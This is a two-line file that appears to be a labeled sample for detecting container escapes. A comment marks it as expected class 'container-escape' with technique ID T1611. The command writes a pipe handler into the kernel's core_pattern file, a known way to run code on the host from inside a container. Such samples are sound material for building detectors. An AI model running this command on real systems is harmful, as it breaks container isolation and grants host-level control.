# expect: container-escape | source: T1611
echo '|/proc/self/look' > /proc/sys/kernel/core_pattern
